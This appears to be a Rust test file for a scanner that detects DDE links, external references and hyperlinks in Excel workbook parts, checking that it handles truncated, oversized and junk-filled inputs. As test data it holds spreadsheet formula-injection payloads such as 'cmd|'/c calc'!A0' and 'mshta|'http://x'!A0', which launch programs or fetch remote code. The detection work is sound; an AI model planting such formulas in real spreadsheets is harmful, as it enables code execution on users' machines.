//! Broken, odd and hostile parts.

use super::*;
use crate::link::Kind;

#[test]
fn a_formula_cut_off_by_the_end_of_its_part() {
    let link = Package::new()
        .workbook(&[], "")
        .part(
            "xl/worksheets/sheet1.xml",
            "<worksheet xmlns='{m}'><c r='B4'><f>cmd|'/c calc'!A0",
        )
        .only();
    assert_eq!(triple(&link), "cmd|/c calc!A0");
    assert_eq!(link.used_by, ["Tabelle1!B4"]);
}

#[test]
fn a_part_read_twice_counts_once() {
    let mut package = written();
    package.read_twice = true;
    let link = package.only();
    assert_eq!(link.used_by, ["Tabelle1!B4"]);
    assert_eq!(link.siblings, 1);
}

#[test]
fn parts_may_come_in_any_order() {
    let mut package = written();
    package.parts.reverse();
    let link = package.only();
    assert_eq!(link.used_by, ["Tabelle1!B4"]);
}

#[test]
fn places_beyond_a_thousand_are_counted() {
    let cells = "<c><f>[1]!A1</f></c>".repeat(1_500);
    let link = Package::new()
        .workbook(&["rId2"], "")
        .sheet(&format!("<row r='1'>{cells}</row>"))
        .link_part(EXTERNAL, WRITTEN)
        .relation("xl/workbook.xml", "rId2", EXTERNAL)
        .only();
    assert_eq!(link.used_by.len(), 1_001);
    assert_eq!(link.used_by.last().unwrap(), "and 500 more");
}

#[test]
fn a_sheet_without_links_keeps_nothing() {
    let cells = "<c><f>SUM(A1:A3)*2</f><v>1</v></c>".repeat(100_000);
    let mut package = Package::new().sheet(&format!("<row>{cells}</row>"));
    package.limits.live_bytes = 4_096;
    assert!(package.links().is_empty());
}

#[test]
fn long_formulas_are_scanned_whole_or_reported() {
    let long = format!("{}+cmd|'/c calc'!A0", "A1+".repeat(200_000));
    let link = Package::new().workbook(&[], "").cell(&long).only();
    assert_eq!(triple(&link), "cmd|/c calc!A0");
    assert_eq!(link.raw, "cmd|'/c calc'!A0");

    let mut package = Package::new().workbook(&[], "").cell(&long);
    package.limits.live_bytes = 100_000;
    let given = package.read();
    assert_eq!((given.gaps, given.left, given.stopped), (1, false, None));
}

#[test]
fn a_formula_that_is_too_long_does_not_hide_the_next_one() {
    let long = format!("cmd|'/c {}'!A0", "x".repeat(200_000));
    let mut package = Package::new()
        .workbook(&[], "")
        .cell(&long)
        .cell("mshta|'http://x'!A0");
    package.limits.live_bytes = 100_000;
    let given = package.read();
    assert_eq!(given.gaps, 1);
    assert_eq!(given.links.len(), 1);
    assert_eq!(triple(&given.links[0]), "mshta|http://x!A0");
}

#[test]
fn hostile_counts_end() {
    let junk = format!("={}", "|".repeat(120_000));
    assert!(
        Package::new()
            .workbook(&[], "")
            .cell(&junk)
            .links()
            .is_empty()
    );
    // Every link copies its topic: a long topic with many items is one link and a rest.
    let items = "<ddeItem name='x'/>".repeat(10_000);
    let topic = "t".repeat(1 << 20);
    let links = Package::new()
        .link_part(
            EXTERNAL,
            &format!("<ddeLink ddeService='s' ddeTopic='{topic}'>{items}</ddeLink>"),
        )
        .links();
    assert!(links.len() <= 17, "{}", links.len());
    assert!(links.last().unwrap().raw.ends_with("more items"));
    let links = "<c><f>HYPERLINK(\"http://x/{}\")</f></c>";
    let cells: String = (0..2_000)
        .map(|n| links.replace("{}", &n.to_string()))
        .collect();
    let links = Package::new().sheet(&cells).links();
    assert_eq!(links.len(), 1_001);
    assert_eq!(links.last().unwrap().raw, "1000 more hyperlinks to the web");
}

/// Whatever junk comes first, a link that starts a program has room.
#[test]
fn junk_starves_no_program() {
    let cells = |formula: &str| -> String {
        let cells = (0..2_000).map(|n| formula.replace("{n}", &n.to_string()));
        format!("<row>{}</row>", cells.collect::<String>())
    };
    for junk in [
        "<c><f>[1]!x{n}</f></c>",
        "<c><f>[{n}]!x</f></c>",
        "<c><f>x{n}|'y'!z</f></c>",
        "<c><f>WEBSERVICE(\"http://x/{n}\")</f></c>",
        "<c><f>HYPERLINK(\"\\\\h\\{n}\")</f></c>",
        "<c t='str'><v>=x{n}|'y'!z</v></c>",
        "<si><t>=cmd|'/c {n}'!z</t></si>",
    ] {
        let mut package = Package::new()
            .workbook(&["rId2"], "")
            .sheet(&cells(junk))
            .link_part(EXTERNAL, WRITTEN)
            .cell("mshta|'http://x'!A0")
            .relation("xl/workbook.xml", "rId2", EXTERNAL);
        package.limits.live_bytes = 256 * 1024;
        let given = package.read();
        assert_eq!((given.left, given.stopped), (false, None), "{junk}");
        assert!(given.gaps > 0, "{junk}");
        for expected in ["cmd|/c calc.exe!A1", "mshta|http://x!A0"] {
            let found = given.links.iter().any(|link| {
                link.kind != Kind::Inert && !link.readings.is_empty() && triple(link) == expected
            });
            assert!(found, "{junk}: {expected}");
        }
    }
}
